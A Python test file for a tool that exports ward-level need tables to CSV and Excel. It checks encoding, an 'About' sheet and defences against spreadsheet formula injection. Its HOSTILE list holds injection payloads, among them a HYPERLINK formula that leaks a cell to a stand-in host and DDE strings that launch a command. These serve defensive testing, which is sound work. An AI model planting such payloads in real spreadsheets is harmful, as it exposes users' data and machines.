"""CSV and XLSX tables for reports."""

from __future__ import annotations

import io
from datetime import date

import pandas as pd

from sector_map.export.tables import need_about_rows, to_csv, to_xlsx, with_need_indicators
from tests.conftest import make_tiny_pack


def test_csv_opens_in_excel_with_accents_intact():
    data = to_csv(pd.DataFrame({"Ward": ["Café Row"], "Gap (0–100)": [82.5]}))
    assert data.startswith(b"\xef\xbb\xbf")
    assert "Café Row" in data.decode("utf-8-sig") and "Gap (0–100)" in data.decode("utf-8-sig")


def test_xlsx_has_an_about_sheet_with_sources_and_each_table():
    pack = make_tiny_pack()
    table = pd.DataFrame({"Ward": ["Alpha", "Beta"], "Need": [90.0, 10.0]})
    data = to_xlsx(
        {"Priority list": table, "A name that is far too long for an Excel sheet": table},
        title="Gaps: older people",
        pack=pack,
        made_on=date(2026, 11, 22),
    )
    book = pd.read_excel(io.BytesIO(data), sheet_name=None)
    assert list(book)[:2] == ["About", "Priority list"]
    assert all(len(name) <= 31 for name in book)
    about = book["About"].astype(str).to_string()
    assert "Fictional demo data" in about and "Tests" in about and "22 November 2026" in about
    assert book["Priority list"]["Ward"].tolist() == ["Alpha", "Beta"]


def test_xlsx_about_sheet_names_the_need_indicators_and_weights():
    pack = make_tiny_pack()
    rows = need_about_rows(pack, ["poverty_food"], weights={"poverty_food": {"imd_score": 1, "imd_rank": 2}})
    assert rows == [
        ("Poverty, food and money advice need index", "IMD score (weight 1); IMD rank (weight 2)")
    ]
    data = to_xlsx({"Wards": pd.DataFrame({"a": [1]})}, title="T", pack=pack, about=rows)
    about = pd.read_excel(io.BytesIO(data), sheet_name="About", header=None).astype(str).values.tolist()
    assert ["Poverty, food and money advice need index", "IMD score (weight 1); IMD rank (weight 2)"] in about
    # the rank restates the score, so by default only the score counts
    assert need_about_rows(pack, ["poverty_food"])[0][1] == "IMD score (weight 1)"


def test_csv_tables_name_the_need_indicators_of_each_theme():
    pack = make_tiny_pack()
    table = pd.DataFrame({"ward_code": ["a", "b"], "need": [90.0, 10.0]})
    one = with_need_indicators(table, pack, ["poverty_food"], weights={"poverty_food": {"imd_rank": 2}})
    assert one["need_indicators"].tolist() == ["IMD rank (weight 2)"] * 2
    assert "need_indicators" not in table.columns  # the caller's table is left alone
    two = with_need_indicators(table, pack, ["poverty_food", "older_people"])
    text = two["need_indicators"].iloc[0]
    assert text.startswith("Poverty, food and money advice need index: IMD score (weight 1) | Older people")
    assert "need_indicators" in to_csv(two).decode("utf-8-sig").splitlines()[0]


# --- formula injection (OWASP CSV injection) ---------------------------------------------------
HOSTILE = [
    '=HYPERLINK("https://example.invalid/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]


def _hostile_table() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame(
        {
            "Ward": HOSTILE,
            "=Header()": ["x"] * n,
            "Change": [-1.5] * n,
            "Count": list(range(-n, 0)),
            "As text": ["-5"] * n,
        }
    )


def _neutral(value: object) -> bool:
    return isinstance(value, str) and value.startswith("'")


def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_readable():
    import csv

    rows = list(csv.reader(io.StringIO(to_csv(_hostile_table()).decode("utf-8-sig"), newline="")))
    assert rows[0] == ["Ward", "'=Header()", "Change", "Count", "As text"]
    assert [r[0] for r in rows[1:]] == ["'" + h for h in HOSTILE]  # readable: the text after the '
    for r in rows[1:]:
        assert r[2] == "-1.5" and int(r[3]) < 0 and r[4] == "-5"  # numbers untouched


def test_xlsx_has_no_formula_cells_and_keeps_numbers():
    from openpyxl import load_workbook

    pack = make_tiny_pack()
    pack.manifest["name"] = '=HYPERLINK("https://example.invalid","pack")'
    pack.manifest["sources"][0]["title"] = "@SUM(1+1)"
    data = to_xlsx(
        {"=cmd|' /C calc'!A0": _hostile_table(), "-sheet": _hostile_table()},
        title="+title()",
        pack=pack,
        made_on=date(2026, 11, 22),
    )
    book = load_workbook(io.BytesIO(data))
    formulas = [c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    for ws in book.worksheets:
        assert ws.title[0] not in "=+-@'", ws.title
    about = book.worksheets[0]
    cells = {str(c.value) for row in about.iter_rows() for c in row if c.value is not None}
    assert "'+title()" in cells and '\'=HYPERLINK("https://example.invalid","pack")' in cells
    assert any(v.startswith("Sources: @SUM(1+1) (Tests, 2026)") for v in cells)  # mid-cell: harmless
    sheet = book.worksheets[1]
    header = [c.value for c in sheet[1]]
    assert header == ["Ward", "'=Header()", "Change", "Count", "As text"]
    body = list(sheet.iter_rows(min_row=2, values_only=True))
    # XML reads a carriage return back as a line feed.
    assert [r[0] for r in body] == ["'" + h.replace("\r", "\n") for h in HOSTILE]
    assert all(r[2] == -1.5 and isinstance(r[3], int) and r[3] < 0 and r[4] == "-5" for r in body)


def test_xlsx_drops_control_characters_instead_of_failing():
    from openpyxl import load_workbook

    table = pd.DataFrame({"Name": ["bell\x07 ward", "nul\x00"]})
    data = to_xlsx({"T\x01": table}, title="t", pack=make_tiny_pack())
    sheet = load_workbook(io.BytesIO(data)).worksheets[1]
    assert [c.value for c in sheet["A"]][1:] == ["bell ward", "nul"]
